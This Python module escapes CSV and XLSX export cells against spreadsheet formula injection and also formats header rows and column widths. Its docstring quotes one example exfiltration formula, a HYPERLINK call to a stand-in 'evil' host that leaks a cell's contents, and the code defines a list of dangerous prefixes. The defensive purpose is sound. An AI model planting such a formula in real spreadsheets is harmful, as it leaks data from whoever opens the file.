"""Formula-safe cells for every CSV and XLSX export.

Why: a spreadsheet opens a cell that starts with = + - @ (or a tab / carriage return before one) as a formula,
so a report text like `=HYPERLINK("http://evil/?"&A1)` typed by a citizen would run in an officer's Excel
(CSV/formula injection, OWASP). Such text cells get a leading apostrophe; in XLSX they are written as text
cells (openpyxl treats a string starting with "=" as a formula otherwise). Numbers — negative ones included —
stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` with a leading apostrophe when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


class SafeWriter:
    """csv.writer with every cell passed through safe_cell."""

    def __init__(self, f, **kwargs):
        self._w = csv.writer(f, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._w.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._w.writerow(safe_row(row))


def csv_writer(f, **kwargs) -> SafeWriter:
    return SafeWriter(f, **kwargs)


def xlsx_append(ws, row: Iterable[Any]) -> None:
    """ws.append(row) with formula-safe cells (openpyxl worksheet, normal or write-only)."""
    ws.append(safe_row(row))


HEADER_WIDTH_MAX = 60
WIDTH_SAMPLE_ROWS = 500


def xlsx_header(ws, labels: Iterable[Any], widths: Iterable[int] | None = None) -> None:
    """Write the header row of a sheet: bold labels, frozen below it (stays in view while scrolling).

    Works on normal and write-only worksheets (call it before any other row). Column widths are set from
    `widths` when given (write-only sheets cannot be measured afterwards), else from the labels; on a normal
    sheet call :func:`xlsx_fit_columns` after the rows to fit the widths to the values too.
    """
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    labels = [str(v) for v in labels]
    bold = Font(bold=True)
    ws.freeze_panes = "A2"
    widths = list(widths) if widths is not None else [len(v) + 2 for v in labels]
    for i, w in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = min(max(w, 8), HEADER_WIDTH_MAX)
    if type(ws).__name__ == "WriteOnlyWorksheet":
        cells = []
        for v in labels:
            c = WriteOnlyCell(ws, value=safe_cell(v))
            c.font = bold
            cells.append(c)
        ws.append(cells)
        return
    ws.append(safe_row(labels))
    for cell in ws[ws.max_row]:
        cell.font = bold


def xlsx_sheet(wb, title: str, header: Iterable[Any], rows: Iterable[Iterable[Any]], first: bool = False):
    """A sheet of workbook `wb` (its first sheet when `first`): a bold, frozen header row of labels, the rows
    written formula-safe, columns as wide as their values."""
    ws = wb.active if first else wb.create_sheet()
    ws.title = str(title)[:31]
    xlsx_header(ws, [str(h) for h in header])
    for r in rows:
        xlsx_append(ws, r)
    xlsx_fit_columns(ws)
    return ws


def xlsx_fit_columns(ws) -> None:
    """Column widths from the longest value of each column (first rows sampled), between 8 and 60 characters."""
    from openpyxl.utils import get_column_letter

    widest: dict[int, int] = {}
    for row in ws.iter_rows(min_row=1, max_row=min(ws.max_row, WIDTH_SAMPLE_ROWS), values_only=True):
        for i, v in enumerate(row, start=1):
            if v is None:
                continue
            text = f"{v:,}" if isinstance(v, int) else str(v)
            widest[i] = max(widest.get(i, 0), max(len(line) for line in text.splitlines() or [""]))
    for i, w in widest.items():
        ws.column_dimensions[get_column_letter(i)].width = min(max(w + 2, 8), HEADER_WIDTH_MAX)
